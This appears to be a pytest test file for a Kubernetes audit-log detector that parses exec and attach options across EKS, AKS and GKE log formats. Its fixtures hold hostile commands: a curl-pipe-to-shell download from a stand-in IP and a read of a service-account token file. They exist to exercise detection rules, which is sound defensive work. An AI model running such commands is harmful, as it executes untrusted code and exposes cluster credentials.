"""Exec/attach options in the request body (PodExecOptions/PodAttachOptions) in every audit format:
argv, container, stdin and tty are read there when the URI has none; a URI that disagrees wins."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from execguard.model import Event
from execguard.sinks.alert_json import alert_dict
from execguard.sources.reader import Reader
from rules_builder import exec_event, hunt, rule_ids

CURL_SH = ["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"]


def bare_exec(subresource: str = "exec") -> dict[str, Any]:
    """An exec logged at Request level whose URI carries no query at all (some exporters drop it)."""
    ev = exec_event("shop", "web-7d9c", [], subresource=subresource, container=None)
    ev["requestURI"] = ev["requestURI"].split("?", 1)[0]
    ev["level"] = "Request"
    return ev


def options(kind: str = "PodExecOptions", **body: Any) -> dict[str, Any]:
    return {"kind": kind, "apiVersion": "v1", **body}


def native(ev: dict[str, Any]) -> dict[str, Any]:
    return ev


def eks(ev: dict[str, Any]) -> dict[str, Any]:
    return {"@timestamp": "2026-03-01 10:00:00.000", "@message": json.dumps(ev),
            "@logStream": "kube-apiserver-audit-0c1f7e1a", "@log": "111122223333:/aws/eks/prod-east/cluster"}


def eks_filter_log_events(ev: dict[str, Any]) -> dict[str, Any]:
    return {"logStreamName": "kube-apiserver-audit-0c1f7e1a", "timestamp": 1772359200000, "message": json.dumps(ev),
            "ingestionTime": 1772359201000, "eventId": "3812"}


def aks_row(ev: dict[str, Any]) -> dict[str, Any]:
    """A Log Analytics AKSAudit row; dynamic columns exported as their JSON text."""
    return {"Type": "AKSAudit", "AuditId": ev["auditID"], "Verb": ev["verb"], "RequestUri": ev["requestURI"],
            "User": json.dumps(ev["user"]), "SourceIps": json.dumps(ev["sourceIPs"]), "UserAgent": ev["userAgent"],
            "ObjectRef": json.dumps(ev["objectRef"]), "ResponseStatus": json.dumps(ev["responseStatus"]),
            "RequestObject": json.dumps(ev["requestObject"]) if "requestObject" in ev else None,
            "Annotations": json.dumps(ev["annotations"]), "Stage": ev["stage"], "Level": ev["level"],
            "StageReceivedTime": ev["stageTimestamp"],
            "_ResourceId": "/subscriptions/0/resourcegroups/rg/providers/microsoft.containerservice/managedclusters/aks-shop"}


def aks_string(ev: dict[str, Any]) -> dict[str, Any]:
    return {"operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read", "category": "kube-audit",
            "resourceId": "/SUBSCRIPTIONS/0/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-SHOP",
            "properties": {"log": json.dumps(ev), "stream": "stdout", "pod": "kube-apiserver-5f7b9"}}


def aks_object(ev: dict[str, Any]) -> dict[str, Any]:
    rec = aks_string(ev)
    rec["properties"]["log"] = ev
    return rec


def gke(ev: dict[str, Any]) -> dict[str, Any]:
    """The same exec as a Cloud Audit Logs entry: the body goes to protoPayload.request."""
    ref = ev["objectRef"]
    path = f"core/v1/namespaces/{ref['namespace']}/pods/{ref['name']}/{ref['subresource']}"
    payload: dict[str, Any] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {"principalEmail": "dev.ops@example.com"},
        "methodName": f"io.k8s.core.v1.pods.{ref['subresource']}.create",
        "requestMetadata": {"callerIp": "34.140.22.7", "callerSuppliedUserAgent": ev["userAgent"]},
        "resourceName": path, "serviceName": "k8s.io", "status": {},
    }
    if "requestObject" in ev:
        body = dict(ev["requestObject"])
        body["@type"] = f"core.k8s.io/v1.{body.pop('kind')}"
        payload["request"] = body
    if "?" in ev["requestURI"]:
        path, query = ev["requestURI"].split("?", 1)
        payload["requestMetadata"]["requestAttributes"] = {"path": path, "query": query}
    return {"protoPayload": payload, "insertId": ev["auditID"], "timestamp": ev["stageTimestamp"],
            "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "shop-gke-1"}}}


# shape -> (source format it must be read as, wrapper)
SHAPES = {
    "native": ("k8s-audit", native),
    "eks-insights": ("eks", eks),
    "eks-filter-log-events": ("eks", eks_filter_log_events),
    "aks-log-string": ("aks", aks_string),
    "aks-log-object": ("aks", aks_object),
    "aks-table-row": ("aks", aks_row),
    "gke": ("gke", gke),
}


def wrap(shape: str, ev: dict[str, Any]) -> dict[str, Any]:
    return SHAPES[shape][1](ev)


def read_one(tmp_path: Path, record: dict[str, Any]) -> Event:
    path = tmp_path / "audit.jsonl"
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    warnings: list[str] = []
    events = list(Reader(warn=lambda f, n, m: warnings.append(m)).read([str(path)]))
    assert not warnings
    [ev] = events
    return ev


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_argv_container_and_flags_from_the_body(shape: str, tmp_path: Path) -> None:
    ev = bare_exec()
    ev["requestObject"] = options(command=CURL_SH, container="app", stdin=True, stdout=True, stderr=True, tty=True)
    got = read_one(tmp_path, wrap(shape, ev))
    assert got.source.format == SHAPES[shape][0]
    assert (got.action, got.command, got.target.container, got.stdin, got.tty) == ("exec", CURL_SH, "app", True, True)
    assert got.command_body == []
    [alert] = hunt([tmp_path / "audit.jsonl"])
    assert alert.severity == "critical" and "cmd-download-pipe-shell" in rule_ids(alert)


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_command_as_a_single_string(shape: str, tmp_path: Path) -> None:
    ev = bare_exec()
    ev["requestObject"] = options(command="cat /var/run/secrets/kubernetes.io/serviceaccount/token", container="app")
    got = read_one(tmp_path, wrap(shape, ev))
    assert got.command == ["cat /var/run/secrets/kubernetes.io/serviceaccount/token"]
    [alert] = hunt([tmp_path / "audit.jsonl"])
    assert "cmd-credential-access" in rule_ids(alert) and alert.severity == "high"


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_attach_options(shape: str, tmp_path: Path) -> None:
    ev = bare_exec("attach")
    ev["requestObject"] = options("PodAttachOptions", container="app", stdin="true", tty=False)
    got = read_one(tmp_path, wrap(shape, ev))
    assert (got.action, got.command, got.target.container, got.stdin, got.tty) == ("attach", [], "app", True, False)


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_uri_wins_and_the_alert_says_so(shape: str, tmp_path: Path) -> None:
    ev = exec_event("shop", "web-7d9c", ["ls", "-la"], container="app", stdin=False)
    ev["level"] = "Request"
    ev["requestObject"] = options(command=CURL_SH, container="other", stdin=True, tty=True)
    got = read_one(tmp_path, wrap(shape, ev))
    assert got.command == ["ls", "-la"] and got.command_body == CURL_SH
    # the URI's options stand whole: its container, and stdin absent there means no stdin
    assert got.target.container == "app" and got.stdin is None and got.tty is None
    [alert] = hunt([tmp_path / "audit.jsonl"])
    assert "k8s-exec-argv-mismatch" in rule_ids(alert)
    reasons = alert_dict(alert)["reasons"]
    assert any("request body argv differs from the URI" in r and "curl -s http://203.0.113.7/x.sh" in r for r in reasons), reasons
    # the URI's argv is what the alert reports and what content rules judge
    assert alert_dict(alert)["command"] == ["ls", "-la"] and "cmd-download-pipe-shell" not in rule_ids(alert)


def test_same_argv_in_body_and_uri_is_no_conflict(tmp_path: Path) -> None:
    ev = exec_event("shop", "web-7d9c", ["ls", "-la"])
    ev["requestObject"] = options(command=["ls", "-la"], container="app")
    got = read_one(tmp_path, ev)
    assert got.command == ["ls", "-la"] and got.command_body == []


def test_body_secrets_are_redacted(tmp_path: Path) -> None:
    ev = bare_exec()
    ev["requestObject"] = options(command=["mysql", "-uroot", "--password=hunter2", "-e", "show databases"])
    got = read_one(tmp_path, ev)
    assert "hunter2" not in " ".join(got.command)
    # a conflicting body argv is redacted as well, in the event and in the alert's reasons
    ev = exec_event("shop", "web-7d9c", ["ls"])
    ev["requestObject"] = options(command=["mysql", "-uroot", "--password=hunter2"])
    got = read_one(tmp_path, ev)
    assert got.command_body and "hunter2" not in " ".join(got.command_body)
    [alert] = hunt([tmp_path / "audit.jsonl"])
    assert "k8s-exec-argv-mismatch" in rule_ids(alert) and "hunter2" not in json.dumps(alert_dict(alert))


def test_bodies_of_other_kinds_are_not_options(tmp_path: Path) -> None:
    ev = bare_exec()
    ev["requestObject"] = {"kind": "Pod", "apiVersion": "v1", "spec": {"containers": [{"name": "x", "command": ["id"]}]}}
    got = read_one(tmp_path, ev)
    assert got.command == [] and got.target.container is None


def test_malformed_body_values_are_ignored(tmp_path: Path) -> None:
    ev = bare_exec()
    ev["requestObject"] = options(command={"not": "a list"}, container=["x"], stdin=None, tty=[])
    got = read_one(tmp_path, ev)
    assert (got.command, got.target.container, got.stdin, got.tty) == ([], None, None, None)


def test_uri_with_options_but_no_command_takes_the_body_argv(tmp_path: Path) -> None:
    ev = exec_event("shop", "web-7d9c", [], container="app", tty=True, stdin=True)
    ev["requestObject"] = options(command=["id"], container="other", tty=False, stdin=False)
    got = read_one(tmp_path, ev)
    # argv only the body has; container and flags the URI has
    assert (got.command, got.command_body, got.target.container, got.tty, got.stdin) == (["id"], [], "app", True, True)
